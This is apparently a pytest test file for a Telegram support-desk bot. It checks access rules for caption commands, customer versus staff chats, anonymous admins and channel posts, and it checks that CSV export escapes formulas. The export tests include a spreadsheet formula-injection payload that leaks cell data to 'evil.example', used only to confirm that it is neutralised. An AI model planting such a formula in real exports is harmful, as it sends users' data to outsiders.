"""Telegram's edges of access: commands in captions, staff commands typed in a customer's chat, `/new`
where no customer is bound, and messages sent on behalf of a chat (anonymous admins, channels)."""

import csv
import io

import pytest

import telemetry
from bot.settings import load_settings
from domain import customers, people, reports
from domain.access import COMMANDS, Where
from domain.errors import DeskError
from domain.models import Customer, Incident, IncidentEvent, IncidentMessage, Invitation, UnboundMessage
from handlers import customer_chat
from locales import t
from tests.clock import FrozenClock
from tests.conftest import Desk, make_env
from tests.people import (
    ENGINEER,
    GROUP,
    LEAD,
    OTHER_GROUP,
    STRANGER,
    customer,
    customer_2,
    engineer,
    lead,
    stranger,
)
from tests.snapshot import snapshot

UNBOUND = -100800
STAFF_CHAT = -100850
PHOTO = {"photo": [{"file_id": "p1", "file_unique_id": "p1", "width": 9, "height": 9}]}
DOCUMENT = {"document": {"file_id": "d1", "file_unique_id": "d1"}}
ANONYMOUS_ADMIN = {"id": 1087968824, "is_bot": True, "first_name": "Group", "username": "GroupAnonymousBot"}
CHANNEL_BOT = {"id": 136817688, "is_bot": True, "first_name": "Channel", "username": "Channel_Bot"}
TELEGRAM = {"id": 777000, "is_bot": False, "first_name": "Telegram"}
CHANNEL = {"id": -100900, "type": "channel", "title": "Acme news"}


def with_caption(text: str) -> dict:
    """A caption command as Telegram sends it: the entity is a caption entity."""
    return {"caption": text, "caption_entities": [{"type": "bot_command", "offset": 0,
                                                   "length": len(text.split()[0])}]}


@pytest.fixture
async def two(desk):
    """ACME in GROUP and BETA in OTHER_GROUP, each with an open incident; an engineer on the staff."""
    now = desk.clock.now()
    await customers.add_customer("ACME", "24x7", "Acme", now)
    await customers.bind_by_code("ACME", "telegram", str(GROUP), "Acme", "supergroup", LEAD, now)
    await customers.add_customer("BETA", "24x7", "Beta", now)
    await customers.bind_by_code("BETA", "telegram", str(OTHER_GROUP), "Beta", "supergroup", LEAD, now)
    await people.register_staff(ENGINEER, "engineer", LEAD, now)
    desk.stub.chat(GROUP, "Acme")
    desk.stub.chat(OTHER_GROUP, "Beta")
    desk.stub.chat(UNBOUND, "Somebody's group")
    await desk.say(GROUP, customer, "Acme printer is on fire")
    await desk.say(OTHER_GROUP, customer_2, "Beta secret project database is down")
    return desk


def texts(desk, chat: int, since: int) -> list[str]:
    return desk.replies(chat, since)


# ---- 1. commands in captions ---------------------------------------------------------------------------
async def test_a_strangers_caption_command_is_refused_and_makes_no_invitation(two):
    before = await snapshot()
    mark = two.stub.mark()
    await two.say(STRANGER, stranger, None, **PHOTO, **with_caption("/staff_invite lead"))
    assert texts(two, STRANGER, mark) == [t("en", "refuse.role_customer", command="staff_invite")]
    assert await Invitation.all().count() == 0
    assert await snapshot() == before


async def test_a_customers_caption_command_is_refused_and_changes_nothing(two):
    before = await snapshot()
    mark = two.stub.mark()
    await two.say(GROUP, customer, None, **DOCUMENT, **with_caption("/customer_set ACME plan warranty"))
    assert texts(two, GROUP, mark) == [t("en", "refuse.role_customer", command="customer_set")]
    assert (await Customer.get(code="ACME")).plan == "24x7"
    assert await snapshot() == before


async def test_a_leads_caption_command_runs(two):
    await two.say(LEAD, lead, None, **PHOTO, **with_caption("/customer_add NEWCO premium New Co"))
    assert (await Customer.get(code="NEWCO")).name == "New Co"


async def test_a_customers_caption_new_opens_an_incident_with_the_attachment(two):
    await two.say(GROUP, customer, None, **PHOTO, **with_caption("/new The screen is black"))
    incident = await Incident.get(key="ACME-2")
    assert incident.title == "The screen is black"
    stored = await IncidentMessage.get(incident=incident, source="customer")
    assert stored.attachments == [{"kind": "photo", "file_id": "p1"}]


async def test_a_customers_caption_that_is_no_command_is_a_problem_report(two):
    await two.say(GROUP, customer, None, **PHOTO, caption="/var/log is full, see the screenshot")
    stored = await IncidentMessage.filter(source="customer", conversation__ref=str(GROUP)).order_by("-id").first()
    assert stored.text == "/var/log is full, see the screenshot"


# ---- 10. /new where no customer is bound -------------------------------------------------------------
@pytest.mark.parametrize(("chat", "user", "refusal"), [
    (LEAD, lead, "refuse.customer_chat_only"),
    (UNBOUND, engineer, "refuse.customer_chat_only"),
    (UNBOUND, stranger, "refuse.role_customer"),
])
async def test_new_where_no_customer_is_bound_is_refused_without_an_error(two, chat, user, refusal):
    errors = telemetry.REGISTRY.get_sample_value("dutydesk_handler_errors_total")
    before = await snapshot()
    mark = two.stub.mark()
    await two.say(chat, user, None, **PHOTO, **with_caption("/new the server is down"))
    assert texts(two, chat, mark) == [t("en", refusal, command="new")]
    assert telemetry.REGISTRY.get_sample_value("dutydesk_handler_errors_total") == errors
    assert await snapshot() == before


async def test_new_handler_refuses_without_a_customer_chat():
    actor = people.Actor(user_id=LEAD, role=people.Role.LEAD, lang=None, chat=None)
    with pytest.raises(DeskError) as caught:
        await customer_chat.new_incident(None, None, actor, None)
    assert caught.value.key == "refuse.customer_chat_only"


# ---- 2. a customer's chat shows only its own incidents ----------------------------------------------------
@pytest.mark.parametrize("command", [
    "/incident BETA-1", "/take BETA-1", "/resolve BETA-1 fixed", "/priority BETA-1 P4", "/reopen BETA-1",
    "/note BETA-1 call them", "/assign BETA-1 @eng_boris", "/escalate BETA-1 architect", "/incident BETA-99",
])
async def test_another_chats_incident_is_refused_in_a_customer_chat(two, command):
    await people.seen(ENGINEER, "eng_boris", "Boris", two.clock.now())
    before = await snapshot()
    mark = two.stub.mark()
    key = command.split()[1]
    await two.say(GROUP, engineer, command)
    assert texts(two, GROUP, mark) == [t("en", "access.other_chat_incident", key=key)]
    assert texts(two, OTHER_GROUP, mark) == []  # Beta's chat hears nothing either
    assert await snapshot() == before


async def test_incidents_and_my_in_a_customer_chat_list_only_that_chat(two):
    await two.say(ENGINEER, engineer, "/take BETA-1")
    await two.say(ENGINEER, engineer, "/take ACME-1")
    for command in ("/incidents", "/my"):
        mark = two.stub.mark()
        await two.say(GROUP, engineer, command)
        (answer,) = texts(two, GROUP, mark)
        assert "ACME-1" in answer and "BETA" not in answer and "secret" not in answer
    mark = two.stub.mark()
    await two.say(GROUP, engineer, "/incidents BETA")
    assert texts(two, GROUP, mark) == [t("en", "access.list_here_only")]
    mark = two.stub.mark()
    await two.say(ENGINEER, engineer, "/incidents")  # in private: the whole desk
    (answer,) = texts(two, ENGINEER, mark)
    assert "ACME-1" in answer and "BETA-1" in answer


async def test_the_chats_own_card_is_shown_without_internal_notes(two):
    await two.say(ENGINEER, engineer, "/note ACME-1 the customer owes us money")
    mark = two.stub.mark()
    await two.say(GROUP, engineer, "/incident ACME-1")
    (card,) = texts(two, GROUP, mark)
    assert "Acme printer is on fire" in card and "owes us money" not in card
    mark = two.stub.mark()
    await two.say(ENGINEER, engineer, "/incident ACME-1")
    assert "owes us money" in texts(two, ENGINEER, mark)[0]


async def test_take_of_the_chats_own_incident_works_there(two):
    await two.say(GROUP, engineer, "/take ACME-1")
    assert (await Incident.get(key="ACME-1")).assignee_id == ENGINEER


DESK_COMMANDS = sorted(name for name, rule in COMMANDS.items() if rule.where is Where.DESK)
DESK_ARGS = {"customer": "BETA", "customer_set": "BETA plan 8x5", "invite": "BETA", "staff_invite": "lead",
             "report": "BETA", "export": "BETA", "announce": "BETA hello", "customer_add": "NEWCO 8x5 New"}


@pytest.mark.parametrize("command", DESK_COMMANDS)
async def test_desk_commands_are_refused_in_a_customer_chat(two, command):
    before = await snapshot()
    mark = two.stub.mark()
    await two.say(GROUP, lead, f"/{command} {DESK_ARGS.get(command, '')}".strip())
    assert texts(two, GROUP, mark) == [t("en", "access.desk_only", command=command)]
    assert two.stub.find("sendDocument", mark) == [] and two.stub.find("sendPhoto", mark) == []
    assert await snapshot() == before


async def test_desk_commands_work_in_private_and_in_the_staff_chat_only(stub, db):
    desk = Desk(stub, load_settings(make_env(stub.url, db, STAFF_CHAT_ID=str(STAFF_CHAT))), FrozenClock())
    await people.ensure_leads(desk.settings.lead_ids, desk.clock.now())
    await customers.add_customer("BETA", "24x7", "Beta", desk.clock.now())
    await customers.bind_by_code("BETA", "telegram", str(OTHER_GROUP), "Beta", "supergroup", LEAD, desk.clock.now())
    await people.register_staff(ENGINEER, "engineer", LEAD, desk.clock.now())
    desk.stub.chat(STAFF_CHAT, "Support team")
    desk.stub.chat(UNBOUND, "Somebody's group")
    await desk.say(OTHER_GROUP, customer_2, "Beta secret project database is down")
    mark = desk.stub.mark()
    await desk.say(LEAD, lead, "/customer BETA")
    assert "Beta" in texts(desk, LEAD, mark)[0]
    await desk.say(STAFF_CHAT, lead, "/customers")
    assert "BETA" in texts(desk, STAFF_CHAT, mark)[-1]
    await desk.say(STAFF_CHAT, engineer, "/incident BETA-1")
    assert "secret project" in texts(desk, STAFF_CHAT, mark)[-1]
    # Any other group may hold outsiders (a customer's group before it is bound, say).
    await desk.say(UNBOUND, lead, "/customers")
    assert texts(desk, UNBOUND, mark)[-1] == t("en", "access.desk_only", command="customers")
    await desk.say(UNBOUND, engineer, "/incident BETA-1")
    assert texts(desk, UNBOUND, mark)[-1] == t("en", "access.other_chat_incident", key="BETA-1")
    await desk.say(UNBOUND, engineer, "/incidents")
    assert texts(desk, UNBOUND, mark)[-1] == t("en", "list.none")
    await desk.bot.session.close()


async def test_help_in_a_customer_chat_leaves_out_what_is_refused_there(two):
    mark = two.stub.mark()
    await two.say(GROUP, lead, "/help")
    (text,) = texts(two, GROUP, mark)
    assert "/bind" in text and "/incident " in text and "/customers" not in text and "/staff_invite" not in text


# ---- 12. messages on behalf of a chat ----------------------------------------------------------------
async def test_an_anonymous_admin_writes_as_the_customer(two):
    two.clock.advance(two.settings.thread_window * 2)  # a new incident, not a follow-up of ACME-1
    mark = two.stub.mark()
    await two.say(GROUP, ANONYMOUS_ADMIN, "Anonymous: the VPN is broken", sender_chat=two.stub.chats[GROUP])
    incident = await Incident.get(key="ACME-2")
    assert incident.reporter_id == GROUP and incident.title == "Anonymous: the VPN is broken"
    stored = await IncidentMessage.get(incident=incident, source="customer")
    assert (stored.author, stored.source) == ("Acme", "customer")
    assert any("ACME-2" in text for text in texts(two, GROUP, mark))  # acknowledged like anyone's


async def test_a_post_as_a_channel_writes_as_the_customer(two):
    await two.say(GROUP, CHANNEL_BOT, "/new Posted as our channel", sender_chat=CHANNEL)
    incident = await Incident.get(key="ACME-2")
    assert incident.title == "Posted as our channel"
    assert (await IncidentMessage.get(incident=incident, source="customer")).author == "Acme news"


async def test_an_automatic_forward_from_the_linked_channel_opens_nothing(two):
    before = await snapshot()
    mark = two.stub.mark()
    await two.say(GROUP, TELEGRAM, "Our release notes: everything is down for maintenance", sender_chat=CHANNEL,
                  is_automatic_forward=True)
    assert texts(two, GROUP, mark) == []
    assert await snapshot() == before


async def test_an_anonymous_admin_is_never_staff(two):
    # Even a lead behind the anonymous admin: nobody can tell, so the chat's commands are a customer's.
    before = await snapshot()
    mark = two.stub.mark()
    await two.say(UNBOUND, ANONYMOUS_ADMIN, "/bind BETA", sender_chat=two.stub.chats[UNBOUND])
    assert texts(two, UNBOUND, mark) == [t("en", "refuse.role_customer", command="bind")]
    await two.say(GROUP, ANONYMOUS_ADMIN, "/take ACME-1", sender_chat=two.stub.chats[GROUP])
    assert texts(two, GROUP, mark)[-1] == t("en", "refuse.role_customer", command="take")
    assert await snapshot() == before


async def test_an_anonymous_admin_in_an_unbound_group_is_kept_in_the_inbox(two):
    await two.say(UNBOUND, ANONYMOUS_ADMIN, "hello?", sender_chat=two.stub.chats[UNBOUND])
    kept = await UnboundMessage.get(conversation__ref=str(UNBOUND))
    assert (kept.author, kept.person_id) == ("Somebody's group", UNBOUND)
    assert not await IncidentEvent.filter(incident__conversation__ref=str(UNBOUND)).exists()


# ---- 5. CSV cells are never formulas ----------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+7 495 000-00-00 call", "-2+3 is broken",
            "@SUM(A1:A9) fails"]


async def test_export_neutralises_cells_that_a_spreadsheet_would_run(two):
    for title in FORMULAS:
        await two.say(GROUP, customer, f"/new {title}")
    mark = two.stub.mark()
    await two.say(LEAD, lead, "/export ACME 2026-03-01 2026-03-31")
    (call,) = two.stub.find("sendDocument", mark)
    attached = call.params["document"].removeprefix("attach://")
    rows = list(csv.DictReader(io.StringIO(call.params["files"][attached].decode("utf-8"))))
    assert [r["title"] for r in rows] == ["Acme printer is on fire"] + ["'" + title for title in FORMULAS]
    assert [r["key"] for r in rows] == ["ACME-1", "ACME-2", "ACME-3", "ACME-4", "ACME-5"]


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=b", "a=b"), (42, 42), ("", ""),
])
def test_csv_cell(value, written):
    assert reports.csv_cell(value) == written
